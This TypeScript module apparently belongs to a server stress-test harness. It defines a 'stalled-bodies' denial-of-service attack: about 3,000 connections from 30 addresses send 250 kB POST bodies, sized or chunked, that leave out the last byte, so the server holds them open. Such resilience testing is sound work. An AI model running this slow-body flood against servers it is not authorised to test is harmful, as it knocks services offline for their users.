/** Bodies that stop just before their end: the exchange holds what it has received. */
import { type Attack, holdConnections, once } from '../attack.ts';
import { ratePerAddress } from '../settings.ts';
import { postHead } from '../traffic/http-request.ts';

const bodyBytes = 250_000;

/** Without the last byte. One body in four is chunked: its length is unknown. */
const bodies = once(() => {
  const content = Buffer.alloc(bodyBytes - 1, ' ');
  const chunk = Buffer.concat([Buffer.from(`${content.length.toString(16)}\r\n`), content]);
  const sized = Buffer.concat([postHead([`Content-Length: ${bodyBytes}`]), content]);
  return [sized, sized, sized, Buffer.concat([postHead(['Transfer-Encoding: chunked']), chunk])];
});

export const stalledBodies: Attack = {
  name: 'stalled-bodies',
  title: '3,000 bodies of 250 kB that lack their last byte, from 30 addresses',
  addresses: 30,
  start(context) {
    const prepared = bodies();
    holdConnections(context, {
      perAddress: 100,
      perSecond: ratePerAddress,
      reopenMs: 30_000,
      onOpen: (socket, index) => socket.resume().write(prepared[index % prepared.length]!),
    });
  },
};
